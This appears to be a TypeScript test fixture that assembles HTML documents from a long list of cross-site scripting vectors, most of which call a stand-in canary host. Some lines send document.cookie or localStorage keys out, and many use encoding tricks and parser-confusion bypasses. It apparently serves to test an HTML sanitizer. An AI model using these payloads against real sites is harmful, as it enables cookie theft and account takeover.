/** A host that nobody has: whatever asks it for something got out. */
export const CANARY = "https://canary.example";

/** In a vector, `JS` stands for code that tells the canary, and `URL` for an address of the canary's. */
const RUNS_BY_ITSELF: readonly string[] = [
  // Elements.
  ..."<script>JS</script>|<SCRIPT>JS</SCRIPT >|<ScRiPt type=text/javascript>JS</sCrIpT>|<script/x>JS</script>".split(
    "|",
  ),
  "<script type=module>JS</script>",
  "<script async src=data:text/javascript,JS></script>",
  "<script src=URL></script>",
  "<script src=//canary.example/URLPATH></script>",
  "<script\n>JS</script\n>",
  "<script>//\u2028JS</script>",
  "<script><!--\nJS\n--></script>",
  "<svg><script>JS</script></svg>",
  "<svg><script href=data:text/javascript,JS /></svg>",
  "<svg><script xlink:href=data:text/javascript,JS></script></svg>",
  "<svg><script>&#102;etch(`https://canary.example/URLPATH`)</script></svg>",
  "<svg><a><script>JS</script></a></svg>",
  "<math><annotation-xml encoding=text/html><script>JS</script></annotation-xml></math>",
  "<script>eval(atob`BASE64`)</script>",
  "<script>setTimeout('JS')</script>",
  "<script>Function('JS')()</script>",
  "<script>[].constructor.constructor('JS')()</script>",
  "<script>new Image().src=`URL`</script>",
  "<script>navigator.sendBeacon(`URL`,document.cookie)</script>",
  "<script>new WebSocket(`wss://canary.example/URLPATH`)</script>",
  "<script>new EventSource(`URL`)</script>",
  "<script>import(`URL`)</script>",
  "<script>var x=new XMLHttpRequest;x.open(`GET`,`URL`);x.send()</script>",
  "<script>document.write('<img src=URL>')</script>",
  "<script>document.body.appendChild(document.createElement('script')).src=`URL`</script>",
  "<script>fetch(`URL?`+document.cookie)</script>",
  "<script>fetch(`URL?`+Object.keys(localStorage))</script>",
  "<script>new Worker('data:text/javascript,JS')</script>",
  // Handlers that need nobody.
  "<img src=x onerror=JS>",
  "<IMG SRC=x ONERROR=JS>",
  '<img src="x" onerror="JS">',
  "<img src='x' onerror='JS'>",
  "<img/src=x/onerror=JS>",
  "<img src=x:x onerror=JS>",
  "<img src onerror=JS>",
  "<img\tsrc=x\nonerror\r=\fJS>",
  "<img src=data:, onerror=JS>",
  '<img src=x """><img src=x onerror=JS>',
  '<img alt="`><img src=x onerror=JS>">',
  "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload=JS>",
  "<img srcset=x onerror=JS>",
  "<img src=x onerror=&#102;etch(`https://canary.example/URLPATH`)>",
  "<img src=x onerror=&#x66;etch(`https://canary.example/URLPATH`)>",
  "<img src=x onerror=&#0000102etch(`https://canary.example/URLPATH`)>",
  "<img src=x onerror=\\u0066etch(`https://canary.example/URLPATH`)>",
  "<img src=x onerror=top[`fe`+`tch`](`https://canary.example/URLPATH`)>",
  "<img src=x onerror=eval(atob(`BASE64`))>",
  "<img src=x onerror=0,JS>",
  "<image src=x onerror=JS>",
  "<picture><source srcset=x><img onerror=JS src=x></picture>",
  "<svg onload=JS>",
  "<svg/onload=JS>",
  "<svg onload=JS//",
  "<svg><image href=x onerror=JS></svg>",
  "<svg><animate onbegin=JS attributeName=x dur=1s>",
  "<svg><set onbegin=JS attributeName=x dur=1s>",
  "<svg><animateTransform onbegin=JS attributeName=transform dur=1s>",
  "<svg><animateMotion onbegin=JS dur=1s></svg>",
  "<svg><style onload=JS></style></svg>",
  "<style onload=JS></style>",
  "<style>x{}</style><link rel=stylesheet href=data:text/css, onload=JS>",
  "<link rel=stylesheet href=x: onerror=JS>",
  "<body onload=JS>",
  "<body onpageshow=JS>",
  "<iframe onload=JS></iframe>",
  "<iframe srcdoc='<script>JS</script>'></iframe>",
  "<iframe srcdoc='&lt;img src=x onerror=JS&gt;'></iframe>",
  '<iframe src="javascript:JS"></iframe>',
  '<iframe src="java\tscript:JS"></iframe>',
  '<iframe src="&#106;avascript:JS"></iframe>',
  '<iframe src="data:text/html,<script>JS</script>"></iframe>',
  "<iframe src=URL></iframe>",
  "<embed src=URL>",
  "<object data=URL></object>",
  "<object data=x: onerror=JS></object>",
  '<object data="data:text/html,<script>JS</script>"></object>',
  '<embed src="javascript:JS">',
  "<video src=x onerror=JS></video>",
  "<video><source src=x onerror=JS></video>",
  "<video onloadstart=JS><source src=data:,></video>",
  "<audio src=x onerror=JS></audio>",
  "<audio src onloadstart=JS><source></audio>",
  "<video src=URL autoplay></video>",
  "<audio src=URL autoplay></audio>",
  "<track src=URL default>",
  "<input autofocus onfocus=JS>",
  "<textarea autofocus onfocus=JS></textarea>",
  "<select autofocus onfocus=JS></select>",
  "<button autofocus onfocus=JS>b</button>",
  "<details open ontoggle=JS>d</details>",
  "<input type=image src=x onerror=JS>",
  "<marquee onstart=JS>m</marquee>",
  "<dialog open onbeforetoggle=JS>d</dialog>",
  '<p style="animation:a 1ms" onanimationstart=JS>a</p><style>@keyframes a{}</style>',
  '<p style="animation:c 1ms" onanimationend=JS>a</p><style>@keyframes c{}</style>',
  "<p tabindex=1 autofocus onfocus=JS>a</p>",
  "<p contenteditable autofocus onfocusin=JS>a</p>",
  "<xss autofocus tabindex=1 onfocus=JS></xss>",
  // Out of what a parser is in.
  "<title></title><img src=x onerror=JS></title>",
  "<textarea></textarea><img src=x onerror=JS>",
  '<noscript><p title="</noscript><img src=x onerror=JS>">',
  "<!--><img src=x onerror=JS>-->",
  "<!-- --!><img src=x onerror=JS>-->",
  "<![CDATA[><img src=x onerror=JS>]]>",
  "<?xml ><img src=x onerror=JS>",
  "<xmp></xmp><img src=x onerror=JS>",
  "<template><script>1</script></template><img src=x onerror=JS>",
  "<div><template shadowrootmode=open><img src=x onerror=JS></template></div>",
  "<div><template shadowrootmode=open><script>JS</script></template></div>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=JS&gt;"><img src=x onerror=JS>',
  '<svg></p><style><a id="</style><img src=x onerror=JS>">',
  "<table><tr><td background=x:><img src=x onerror=JS></table>",
  "<select><option><img src=x onerror=JS></select><img src=x onerror=JS>",
  '<a title="&quot;><img src=x onerror=JS>"></a><img src=x onerror=JS>',
  "<<img src=x onerror=JS>>",
  "<im&#0;g><img src=x onerror=JS></im&#0;g>",
  '"><img src=x onerror=JS>',
  "'><img src=x onerror=JS>",
  "</script><script>JS</script>",
  "</style><script>JS</script>",
  "{{constructor.constructor('JS')()}}<img src=x onerror=JS>",
  "#{JS}<img src=x onerror=JS>",
  "<%= JS %><img src=x onerror=JS>",
  // Loads something without a script.
  "<link rel=stylesheet href=URL>",
  "<link rel=preload as=script href=URL>",
  "<link rel=modulepreload href=URL>",
  "<link rel=prefetch href=URL>",
  "<link rel=manifest href=URL>",
  "<link rel=icon href=URL>",
  "<style>@import 'URL';</style>",
  "<style>@font-face{font-family:f;src:url(URL)}p{font-family:f}</style><p>f</p>",
];

/** Asks the canary for an image. A page may allow that; the page of an email does not. */
const IMAGES: readonly string[] = [
  "<img src=URL>",
  "<img srcset='URL 1x'>",
  "<picture><source srcset=URL><img></picture>",
  "<input type=image src=URL>",
  "<video poster=URL></video>",
  "<body background=URL>",
  "<table background=URL><tr><td>t</table>",
  "<p style='background:url(URL)'>p</p>",
  "<p style=\"background:u\\72l('URL')\">p</p>",
  "<p style='border-image:url(URL) 1'>p</p>",
  "<ul style='list-style:url(URL)'><li>l</ul>",
  "<style>p::after{content:url(URL)}</style><p>p</p>",
  "<svg><image href=URL width=9 height=9 /></svg>",
  "<svg><use href=URL#a /></svg>",
  "<svg><filter id=f><feImage href=URL /></filter><rect width=9 height=9 filter=url(#f) /></svg>",
];

/** Leads the page, or the page around it, elsewhere. Each would end a document that the others are in. */
const NAVIGATES: readonly string[] = [
  "<meta http-equiv=refresh content='0;url=URL'>",
  "<meta http-equiv=refresh content='0;url=javascript:JS'>",
  "<meta http-equiv=refresh content='0;url=data:text/html,<script>JS</script>'>",
  "<script>location=`URL`</script>",
  "<script>top.location=`URL`</script>",
  "<script>parent.location=`URL`</script>",
  "<script>open(`URL`)</script>",
  "<script>document.forms[0].submit()</script>",
  "<base href=https://canary.example/><script src=URLPATH></script>",
  "<iframe srcdoc='<script>top.location=`URL`</script>'></iframe>",
];

/** Needs a click. The link or button is called what stands in it. */
const CLICKED: readonly string[] = [
  '<a href="javascript:JS">link</a>',
  '<a href="java&#10;script:JS">link</a>',
  '<a href="data:text/html,<script>JS</script>" target=_top>link</a>',
  "<a href=# ping=URL onclick=JS>link</a>",
  "<form action=URL><button>button</button></form>",
  '<form><button formaction="javascript:JS">button</button></form>',
  "<form action=URL target=_top><input type=hidden name=a value=b><button>button</button></form>",
  '<svg><a xlink:href="javascript:JS"><text y=20>link</text></a></svg>',
];

/** Ends whatever the vector before has left open. */
const RESET = `">-->${[
  "script style title textarea xmp noscript iframe template svg math select table form object video audio picture",
  "dialog details marquee button a",
]
  .join(" ")
  .split(" ")
  .map((name) => `</${name}>`)
  .join("")}`;

let number = 0;
function numbered(vector: string): string {
  number += 1;
  const js = `fetch(\`${CANARY}/${number}\`)`;
  return vector
    .replaceAll("BASE64", Buffer.from(js).toString("base64"))
    .replaceAll("URLPATH", String(number))
    .replaceAll("URL", `${CANARY}/${number}`)
    .replaceAll("JS", js);
}
const documentOf = (vectors: readonly string[]) =>
  `<!doctype html><h1>Shown</h1>${vectors.map((vector) => numbered(vector) + RESET).join("\n")}<p>To the end</p>`;

export const COUNT = RUNS_BY_ITSELF.length + IMAGES.length + NAVIGATES.length + CLICKED.length;
/** Documents with these vectors one after the other. */
export const running = documentOf(RUNS_BY_ITSELF);
export const images = documentOf(IMAGES);
export const navigating = documentOf([...NAVIGATES, "<form action=URL></form>"]);
export const clicked = documentOf(CLICKED);
